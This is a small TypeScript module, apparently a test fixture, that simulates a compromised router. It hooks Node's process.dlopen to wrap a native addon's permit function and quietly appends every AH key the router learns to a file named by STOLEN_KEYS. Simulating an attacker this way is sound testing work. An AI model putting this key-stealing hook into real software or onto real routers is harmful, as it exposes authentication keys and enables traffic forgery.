/**
 * Loaded into the pbsd of a router that somebody has taken over (node --import): writes down every AH key that the router
 * learns, a JSON line each, into the file that STOLEN_KEYS names.
 */
import { appendFileSync } from "node:fs";
import type { Native, NativeAuthentication } from "../../src/traffic/native.js";

const file = process.env["STOLEN_KEYS"] ?? "/dev/null";
const load = process.dlopen.bind(process);

process.dlopen = (module: object, filename: string, flags?: number): void => {
  if (flags === undefined) load(module, filename);
  else load(module, filename, flags);
  if (filename.endsWith("pbs_native.node")) tap(module as { exports: Native });
};

function tap(module: { exports: Native }): void {
  const addon = module.exports;
  const permit: Native["permit"] = (engine, keys, values, isNew, authentications) => {
    for (const one of authentications ?? []) if (one !== undefined) writeDown(one);
    addon.permit(engine, keys, values, isNew, authentications);
  };
  module.exports = { ...addon, permit };
}

function writeDown({ spi, algorithm, key }: NativeAuthentication): void {
  appendFileSync(file, `${JSON.stringify({ spi, algorithm, key: Buffer.from(key).toString("hex") })}\n`);
}
